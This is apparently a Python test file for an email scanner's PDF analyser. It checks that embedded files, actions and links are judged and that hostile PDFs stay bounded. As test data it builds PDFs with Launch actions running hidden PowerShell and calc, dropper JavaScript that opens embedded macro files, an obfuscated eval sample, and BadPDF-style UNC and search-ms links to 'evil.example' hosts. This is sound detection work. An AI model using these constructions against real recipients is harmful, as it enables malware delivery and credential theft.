"""PDF attachments (issue: attacks delivered through a PDF): files a PDF embeds are analysed
like attachments, its actions are judged, its links go through the same judgement as the
body's, and hostile documents (cycles, 100,000 annotations, bombs, hangs) stay bounded.
Every document here is built by testkit/pdf.py."""

from __future__ import annotations

import atexit
import dataclasses
import io
import os
import time

import pytest
import worker_funcs
from cases import with_attachment
from cases_containers import plain_zip, tiny_exe
from cases_links import HIJACKED_FROM, TO, WP_ZIP, text_mail
from conftest import eml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import mailcheck.containers.pdf as pdf_opener
from mailcheck.api import scan_bytes
from mailcheck.containers import ARCHIVE_KINDS, OPENERS
from mailcheck.containers.pdf.reader import read_pdf
from mailcheck.containers.pdf.report import PdfBounds, PdfReport
from mailcheck.engine import Engine, WorkerFailed, WorkerTimeout
from mailcheck.limits import DEFAULT, Limits
from mailcheck.model import Attachment, Finding, ScanResult
from testkit.office import DROPPER_MACRO, build_vba_project, build_xlsm
from testkit.pdf import (
    bomb_pdf,
    build_pdf,
    cyclic_pdf,
    deep_pdf,
    javascript,
    launch,
    long_chain_pdf,
    many_annotations_pdf,
    remote,
    uri,
)

PDF = "application/pdf"
JA = "お世話になっております。\r\n請求書を送付いたします。ご確認ください。\r\n"
EN = "Hello,\r\nplease find the invoice attached.\r\n"
TEXTS = pytest.mark.parametrize("text", [JA, EN], ids=["ja", "en"])
HANG_GUARD_SECONDS = 10.0
INVOICE = "Invoice 2024-0312\nAmount due: 128,400 JPY\nPayment by 31 March"
CUT_PDF = build_pdf(text=INVOICE, links=["https://www.example.com/"])


def scan(data: bytes, *, text: str = EN, limits: Limits = DEFAULT, **kwargs: object) -> ScanResult:
    return scan_bytes(with_attachment(data, "invoice.pdf", PDF, text=text), limits=limits, **kwargs)  # type: ignore[arg-type]


def ids(result: ScanResult) -> set[str]:
    return {f.id for f in result.findings}


def finding(result: ScanResult, finding_id: str) -> Finding:
    found = [f for f in result.findings if f.id == finding_id]
    assert found, (finding_id, ids(result))
    return found[0]


def node(result: ScanResult, path: str) -> Attachment:
    for top in result.attachments:
        for each in top.walk():
            if each.path == path:
                return each
    raise AssertionError(f"no attachment {path}")


def dropper_xlsm() -> bytes:
    return build_xlsm(build_vba_project(host="excel", document_code=DROPPER_MACRO))


# --- embedded files are members --------------------------------------------------------------


@TEXTS
def test_an_embedded_macro_workbook_is_analysed_like_an_attachment(text: str) -> None:
    result = scan(
        build_pdf(text=INVOICE, attachments=[("invoice.xlsm", dropper_xlsm())]), text=text
    )
    hit = finding(result, "attachment.macro.autoexec_exec")
    assert hit.evidence[0].location == "attachment 2/invoice.pdf/invoice.xlsm"
    assert node(result, "2/invoice.pdf/invoice.xlsm").status == "ok"
    assert result.verdict.label == "malicious"


@TEXTS
@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("setup.exe", tiny_exe()),
        ("invoice.js", b'WScript.CreateObject("WScript.Shell").Run("calc")'),
    ],
)
def test_an_embedded_program_or_script_is_malicious(text: str, name: str, data: bytes) -> None:
    result = scan(build_pdf(text=INVOICE, attachments=[(name, data)]), text=text)
    hit = finding(result, "attachment.executable")
    assert hit.evidence[0].location == f"attachment 2/invoice.pdf/{name}"
    assert result.verdict.label == "malicious"


def test_a_file_attachment_annotation_is_a_member_too() -> None:
    result = scan(build_pdf(text=INVOICE, annotation_files=[("readme.exe", tiny_exe())]))
    assert finding(result, "attachment.executable").evidence[0].location == (
        "attachment 2/invoice.pdf/readme.exe"
    )


def test_a_pdf_inside_a_zip_is_opened_as_well() -> None:
    archive = plain_zip([("invoice.pdf", build_pdf(attachments=[("a.exe", tiny_exe())]))])
    result = scan_bytes(with_attachment(archive, "docs.zip", "application/zip"))
    assert finding(result, "attachment.executable").evidence[0].location == (
        "attachment 2/docs.zip/invoice.pdf/a.exe"
    )


@TEXTS
@pytest.mark.parametrize(
    ("name", "data"),
    [("data.csv", b"date,amount\n2024-03-01,128400\n"), ("notes.txt", b"Thank you.\n")],
)
def test_an_embedded_csv_or_text_file_stays_clean(text: str, name: str, data: bytes) -> None:
    result = scan(build_pdf(text=INVOICE, attachments=[(name, data)]), text=text)
    assert node(result, f"2/invoice.pdf/{name}").size == len(data)
    assert result.verdict.label == "clean" and not result.verdict.incomplete
    assert result.findings == ()


@TEXTS
def test_a_plain_text_pdf_is_clean_and_complete(text: str) -> None:
    result = scan(build_pdf(text=INVOICE), text=text)
    assert result.findings == ()
    assert result.verdict.label == "clean" and not result.verdict.incomplete
    assert node(result, "2/invoice.pdf").children == ()


def test_the_pdf_stays_a_file_of_its_own() -> None:
    # Members come from the opener, but the document is not an archive: the checks of a
    # file (padding, type) still look at it.
    assert "pdf" in OPENERS and "pdf" not in ARCHIVE_KINDS
    padded = build_pdf(text=INVOICE) + b"%" + b"\x00" * (5 * 1024 * 1024)
    assert "attachment.inflated" in ids(scan(padded))


# --- actions ---------------------------------------------------------------------------------


@TEXTS
def test_launch_is_critical(text: str) -> None:
    action = launch("cmd.exe", "/c powershell -w hidden -enc SQBFAFgA")
    result = scan(build_pdf(text=INVOICE, open_action=action), text=text)
    hit = finding(result, "attachment.pdf_launch")
    assert hit.severity == "critical"
    assert hit.facts()["where"] == "OpenAction" and hit.facts()["trigger"] == "open"
    assert hit.facts()["target"] == "cmd.exe /c powershell -w hidden -enc SQBFAFgA"
    assert hit.evidence[0].location == "attachment 2/invoice.pdf"
    assert result.verdict.label == "malicious"


def test_launch_behind_a_click_is_still_critical() -> None:
    result = scan(build_pdf(text=INVOICE, link_actions=[launch("invoice.pdf.exe")]))
    hit = finding(result, "attachment.pdf_launch")
    assert hit.facts()["trigger"] == "click"
    assert hit.facts()["where"] == "page 1 annotation 1 (Link) /A"
    assert result.verdict.label == "malicious"


@TEXTS
def test_javascript_on_open_is_at_least_suspicious(text: str) -> None:
    result = scan(build_pdf(text=INVOICE, open_action=javascript("app.alert('x');")), text=text)
    hit = finding(result, "attachment.pdf_javascript")
    assert hit.facts()["trigger"] == "open" and hit.facts()["traits"] == "-"
    assert result.verdict.label in ("suspicious", "malicious")


def test_javascript_on_a_page_opening_counts_as_on_open() -> None:
    result = scan(build_pdf(page_actions={"/O": javascript("this.print();")}))
    assert finding(result, "attachment.pdf_javascript").facts()["where"] == "page 1 /AA /O"


def test_a_click_script_that_opens_an_embedded_file_is_a_dropper_trait() -> None:
    code = "this.exportDataObject({cName: 'invoice.docm', nLaunch: 2});"
    result = scan(build_pdf(text=INVOICE, link_actions=[javascript(code)]))
    hit = finding(result, "attachment.pdf_javascript")
    assert hit.facts()["trigger"] == "click"
    assert hit.facts()["traits"] == "exportDataObject"


def test_obfuscated_document_javascript_is_a_dropper_trait() -> None:
    code = "var s = unescape('%61%6c%65%72%74'); eval(s + '(1)');"
    result = scan(build_pdf(document_scripts=[code]))
    assert finding(result, "attachment.pdf_javascript").facts()["traits"] == "eval of decoded text"


@TEXTS
def test_form_scripts_are_only_a_note(text: str) -> None:
    form = build_pdf(
        text="Order form",
        field_scripts={"F": "AFNumber_Format(0, 0, 0, 0, '', true);", "K": "AFNumber_Keystroke();"},
        document_scripts=["function total() { return this.getField('A').value * 2; }"],
        link_actions=[javascript("this.submitForm('mailto:orders@example.com');")],
    )
    result = scan(form, text=text)
    assert finding(result, "attachment.pdf_script").facts()["count"] == "4"
    assert "attachment.pdf_javascript" not in ids(result)
    assert result.verdict.label == "clean"


def test_an_address_opened_by_itself_is_suspicious() -> None:
    result = scan(build_pdf(text=INVOICE, open_action=uri("https://login.evil.example/o365")))
    hit = finding(result, "attachment.pdf_auto_action")
    assert (
        hit.facts()["action"] == "URI"
        and hit.facts()["target"] == "hxxps://login[.]evil[.]example/o365"
    )
    assert hit.facts()["url_exact"] == "https://login.evil.example/o365"  # for block lists
    assert result.verdict.label == "suspicious"


def test_a_remote_share_opened_when_a_page_opens_leaks_credentials() -> None:
    # BadPDF (CVE-2018-4993): a go-to-remote action to an Internet share on page open.
    share = "\\\\files.evil.example\\share\\x.pdf"
    result = scan(build_pdf(text=INVOICE, page_actions={"/O": remote("GoToR", share)}))
    assert finding(result, "attachment.pdf_auto_action").facts()["action"] == "GoToR"
    assert finding(result, "link.handler").facts()["scheme"] == "unc"
    assert result.verdict.label == "malicious"


def test_going_to_a_local_document_or_the_company_share_is_nothing() -> None:
    actions = [remote("GoToR", "chapter2.pdf"), remote("GoToR", "\\\\fileserver\\docs\\a.pdf")]
    result = scan(build_pdf(text=INVOICE, page_actions={"/O": actions[0]}, link_actions=actions))
    assert result.findings == ()


# --- links go through the body's judgement -------------------------------------------------------


def pdf_from_hijacked(data: bytes, text: str) -> bytes:
    return with_attachment(
        data, "invoice.pdf", PDF, HIJACKED_FROM, TO, "Subject: Invoice", text=text
    )


@TEXTS
def test_a_link_to_an_archive_on_an_unrelated_host_is_flagged_as_in_a_body(text: str) -> None:
    in_pdf = scan_bytes(pdf_from_hijacked(build_pdf(text=INVOICE, links=[WP_ZIP]), text))
    in_body = scan_bytes(text_mail(f"Please find the invoice here:\n{WP_ZIP}\n"))
    hit = finding(in_pdf, "link.payload_suspicious_host")
    assert hit.evidence[0].location == "attachment 2/invoice.pdf"
    assert hit.facts()["file_name"] == "invoice_0301.zip"
    assert {f.id for f in in_pdf.findings if f.id.startswith("link.")} == ids(in_body)
    assert in_pdf.verdict.label == in_body.verdict.label == "suspicious"


@TEXTS
def test_a_search_ms_link_in_a_pdf_is_critical(text: str) -> None:
    link = "search-ms:query=invoice&crumb=location:\\\\files.evil.example@SSL\\DavWWWRoot\\docs"
    result = scan(build_pdf(text=INVOICE, links=[link]), text=text)
    hit = finding(result, "link.handler")
    assert hit.severity == "critical" and hit.facts()["scheme"] == "search-ms"
    assert hit.evidence[0].location == "attachment 2/invoice.pdf"
    assert result.verdict.label == "malicious"


@TEXTS
def test_an_invoice_linking_to_the_company_site_is_clean(text: str) -> None:
    links = ["https://www.example.com/invoices/2024-0312", "https://www.jpcert.or.jp/"]
    result = scan(build_pdf(text=INVOICE, links=links), text=text)
    assert result.findings == ()
    assert result.verdict.label == "clean" and not result.verdict.incomplete


def test_body_and_pdf_links_share_one_finding_per_id() -> None:
    mail = with_attachment(
        build_pdf(links=[WP_ZIP.replace("0301", "0302")]),
        "invoice.pdf",
        PDF,
        HIJACKED_FROM,
        TO,
        text=f"Invoice: {WP_ZIP}\r\n",
    )
    hit = finding(scan_bytes(mail), "link.payload_suspicious_host")
    assert [e.location for e in hit.evidence] == ["part 1", "attachment 2/invoice.pdf"]
    assert hit.facts()["links"] == "2"


def test_links_of_a_forwarded_message_are_judged_against_its_own_sender() -> None:
    inner = with_attachment(
        build_pdf(links=[WP_ZIP]), "invoice.pdf", PDF, HIJACKED_FROM, TO, text=EN
    )
    body = (
        "--FW\r\nContent-Type: text/plain\r\n\r\nFYI\r\n"
        "--FW\r\nContent-Type: message/rfc822\r\n\r\n"
        + inner.decode("utf-8", "surrogateescape")
        + "\r\n--FW--\r\n"
    )
    outer = eml(
        "From: Colleague <colleague@blog.victim-bakery.example>",
        body=body,
        content_type='multipart/mixed; boundary="FW"',
    )
    # Judged against the outer sender, the host would be the sender's own (a weak note).
    hit = finding(scan_bytes(outer), "link.payload_suspicious_host")
    assert hit.evidence[0].location == "attachment 2/2/invoice.pdf"


# --- passwords, damage --------------------------------------------------------------------------


def test_a_locked_pdf_opens_with_the_password_from_the_body() -> None:
    locked = build_pdf(text=INVOICE, attachments=[("a.exe", tiny_exe())], password="Kx9-p2mQ")
    result = scan(locked, text="パスワード：Kx9-p2mQ\r\n")
    assert finding(result, "attachment.pdf_password_in_body").facts()["password"] == "Kx9-p2mQ"
    assert "attachment.executable" in ids(result)


def test_a_locked_pdf_without_its_password_is_incomplete() -> None:
    result = scan(build_pdf(text=INVOICE, password="Kx9-p2mQ"), text="別途お送りします。\r\n")
    assert finding(result, "attachment.pdf_encrypted").facts()["tried"] == "0"
    assert node(result, "2/invoice.pdf").status == "encrypted"
    assert result.verdict.label == "clean" and result.verdict.incomplete


def test_a_pdf_that_only_restricts_printing_is_read_without_a_password() -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(build_pdf(links=[WP_ZIP]))))
    writer.encrypt(user_password="", owner_password="owner-only", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    result = scan(out.getvalue())
    assert not {"attachment.pdf_encrypted", "attachment.pdf_password_in_body"} & ids(result)
    assert "link.payload_suspicious_host" in ids(result)


def test_the_2022_shape_a_script_on_open_launching_an_embedded_macro_document() -> None:
    # Snake Keylogger, May 2022: the PDF's OpenAction script saves and opens the .docx it
    # carries (exportDataObject with nLaunch), whose macro fetches the payload.
    document = build_pdf(
        text="Please open the attached document",
        attachments=[("REMITTANCE.xlsm", dropper_xlsm())],
        open_action=javascript("this.exportDataObject({cName: 'REMITTANCE.xlsm', nLaunch: 2});"),
    )
    result = scan(document, text=JA)
    assert finding(result, "attachment.pdf_javascript").facts()["traits"] == "exportDataObject"
    assert "attachment.macro.autoexec_exec" in ids(result)
    assert result.verdict.label == "malicious"


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\n%%EOF\n",
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R",
        CUT_PDF[: CUT_PDF.index(b"7 0 obj")],  # the page's link annotation is lost
        b"%PDF-1.7\nxref\n0 99999999\ntrailer\n<< /Root 1 0 R /Size -5 >>\nstartxref\n9\n%%EOF",
    ],
    ids=["empty", "cut", "truncated", "bad-xref"],
)
def test_a_damaged_pdf_is_a_finding_never_a_crash(data: bytes) -> None:
    result = scan(data)
    assert "attachment.pdf_unreadable" in ids(result)
    assert node(result, "2/invoice.pdf").status == "broken"
    assert result.verdict.incomplete


def test_a_pdf_whose_cross_references_are_missing_is_repaired() -> None:
    data = build_pdf(text=INVOICE, open_action=launch("calc.exe"))
    cut = data[: data.rindex(b"xref")]
    assert "attachment.pdf_launch" in ids(scan(cut))


# --- bounds and hangs --------------------------------------------------------------------------


def test_reference_cycles_are_walked_once() -> None:
    started = time.monotonic()
    result = scan(cyclic_pdf())
    assert time.monotonic() - started < HANG_GUARD_SECONDS
    assert finding(result, "attachment.pdf_javascript").facts()["where"] == "OpenAction"
    assert not any(f.id.startswith("limit.") for f in result.findings)


def test_a_hundred_thousand_annotations_stop_at_the_object_bound() -> None:
    data = many_annotations_pdf(100_000)
    started = time.monotonic()
    result = scan(data)
    assert time.monotonic() - started < HANG_GUARD_SECONDS
    assert finding(result, "limit.max_pdf_objects").facts()["limit"] == "20000"
    assert node(result, "2/invoice.pdf").status == "truncated"
    assert result.verdict.incomplete


def test_the_object_bound_is_the_limits_one() -> None:
    limits = dataclasses.replace(DEFAULT, max_pdf_objects=1_000_000)
    result = scan(many_annotations_pdf(3_000), limits=limits)
    assert "attachment.pdf_launch" in ids(result)  # the last annotation is reached
    assert "limit.max_pdf_objects" not in ids(result)


def test_an_endless_chain_of_actions_stops_at_the_bound() -> None:
    started = time.monotonic()
    result = scan(long_chain_pdf(50_000))
    assert time.monotonic() - started < HANG_GUARD_SECONDS
    assert "limit.max_pdf_objects" in ids(result)


def test_deep_nesting_is_damage_not_a_crash() -> None:
    started = time.monotonic()
    result = scan(deep_pdf(200_000))
    assert time.monotonic() - started < HANG_GUARD_SECONDS
    assert "attachment.pdf_unreadable" in ids(result)


def test_an_embedded_bomb_keeps_only_the_member_bound() -> None:
    limits = dataclasses.replace(DEFAULT, max_member_bytes=1024 * 1024)
    result = scan(bomb_pdf(64 * 1024 * 1024), limits=limits)
    member = node(result, "2/invoice.pdf/invoice.doc")
    assert member.size <= limits.max_member_bytes
    hit = finding(result, "attachment.inflated")
    assert hit.evidence[0].location == "attachment 2/invoice.pdf/invoice.doc"
    assert result.verdict.label == "malicious"


def test_embedded_files_count_against_the_members_bound() -> None:
    files = [(f"f{i}.txt", b"x") for i in range(5)]
    limits = dataclasses.replace(DEFAULT, max_archive_members=2)
    result = scan(build_pdf(attachments=files), limits=limits)
    assert "limit.max_archive_members" in ids(result)
    assert len(node(result, "2/invoice.pdf").children) == 2


def slow_inspect(*_args: object) -> PdfReport:
    time.sleep(3600)
    return PdfReport()


def dying_inspect(*_args: object) -> PdfReport:
    os._exit(3)


def test_a_hang_is_killed_at_the_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_opener, "inspect", slow_inspect)
    with Engine() as engine:
        engine.worker.call(worker_funcs.add, 1, 1, timeout=60)  # started: not the test
        started = time.monotonic()
        limits = dataclasses.replace(DEFAULT, analyzer_timeout=2.0)
        result = scan(build_pdf(text=INVOICE), limits=limits, engine=engine)
        assert time.monotonic() - started < 30
    hit = finding(result, "analyzer.timeout")
    assert hit.facts() == {
        "analyzer": "pdf",
        "location": "attachment 2/invoice.pdf",
        "timeout": "2",
    }
    assert result.verdict.incomplete


def test_a_dead_worker_is_an_analyzer_error_and_the_next_scan_works(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    with Engine() as engine:
        monkeypatch.setattr(pdf_opener, "inspect", dying_inspect)
        result = scan(build_pdf(attachments=[("a.exe", tiny_exe())]), engine=engine)
        assert "died" in finding(result, "analyzer.error").facts()["error"]
        assert node(result, "2/invoice.pdf").status == "broken"
        monkeypatch.undo()
        again = scan(build_pdf(attachments=[("a.exe", tiny_exe())]), engine=engine)
        assert "attachment.executable" in ids(again)


# --- never raises, always bounded ------------------------------------------------------------

SEED_PDF = build_pdf(
    text=INVOICE,
    links=[WP_ZIP, "https://www.example.com/"],
    attachments=[("a.exe", tiny_exe()), ("data.csv", b"a,b\n")],
    open_action=launch("cmd.exe", "/c calc"),
    field_scripts={"F": "AFNumber_Format(0);"},
)
FUZZ_ENGINE = Engine()
atexit.register(FUZZ_ENGINE.close)
SMALL = PdfBounds(
    keep=4096,
    allowance=4096,
    ratio=200,
    max_total=8192,
    max_files=1,
    max_objects=60,
    max_links=1,
    max_script_chars=100,
    passwords=("x",),
    max_password_tries=1,
)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    cuts=st.lists(
        st.tuples(
            st.integers(0, len(SEED_PDF)),
            st.integers(0, 64),
            st.binary(max_size=16) | st.sampled_from([b"<<", b">>", b"[", b"0 R", b"obj", b"\x00"]),
        ),
        min_size=1,
        max_size=6,
    )
)
def test_a_mutated_pdf_never_raises_and_stays_within_its_bounds(
    cuts: list[tuple[int, int, bytes]],
) -> None:
    # In the worker, as scans run it: an old pypdf can loop and allocate without end on a
    # damaged dictionary, which the worker's memory cap and timeout turn into findings.
    data = bytearray(SEED_PDF)
    for at, length, insert in cuts:
        data[at : at + length] = insert
    try:
        report = FUZZ_ENGINE.worker.call(read_pdf, bytes(data), SMALL, timeout=20)
    except (WorkerFailed, WorkerTimeout):  # the opener reports these as analyzer findings
        return
    assert report.status in ("ok", "broken", "encrypted")
    assert len(report.files) <= SMALL.max_files and len(report.links) <= SMALL.max_links
    assert all(len(f.drained.data) <= SMALL.keep for f in report.files)
    assert sum(len(a.script) for a in report.actions) <= SMALL.max_script_chars
